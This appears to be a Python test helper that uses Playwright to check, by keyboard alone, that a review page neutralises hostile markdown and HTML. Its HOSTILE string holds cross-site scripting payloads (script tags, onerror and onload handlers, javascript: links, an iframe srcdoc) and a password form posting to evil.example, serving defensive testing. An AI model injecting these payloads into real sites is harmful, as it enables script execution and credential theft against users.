"""What a reviewer does in a browser, by keyboard alone; and what hostile text tries there."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import Page

HOSTILE = """# Hello <script>alert('heading')</script>

<img src=x onerror="alert('picture')"> <svg onload="alert('drawing')"></svg>
<iframe srcdoc="<script>parent.alert('frame')</script>"></iframe>
<a href="javascript:alert('link')">link</a> [link](javascript:alert('markdown'))
<style>body { display: none }</style><form action="https://evil.example"><input name="password"></form>

![picture](https://evil.example/track.png "' onerror='alert(2)")
"""
_LISTEN = """
window.refused = [];
document.addEventListener('securitypolicyviolation', event => window.refused.push(event.violatedDirective));
"""


class Keys:
    """Somebody without a mouse. Going through the page is free; each time that something is done is counted."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.done = 0

    def do(self, selector: str, key: str) -> None:
        for _step in range(120):
            self.page.keyboard.press("Tab")
            if self.page.evaluate("selector => document.activeElement.matches(selector)", selector):
                break
        else:
            raise AssertionError(f"{selector} cannot be reached by keyboard on {self.page.url}")
        self.press(key)

    def press(self, key: str) -> None:
        self.page.keyboard.press(key)
        self.done += 1
        self.page.wait_for_load_state()


def watch_policy(page: Page) -> list[str]:
    """What the browser said: dialogs that a script opened. Refusals of the policy are collected in the page."""
    said: list[str] = []

    def heard(dialog: Any) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", heard)
    page.add_init_script(_LISTEN)
    return said


def refused(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.refused")
    return found


def try_to_run(page: Page) -> None:
    """The control: what would happen if the text came into the page alive."""
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); new Promise(r => setTimeout(r, 300))"
    )
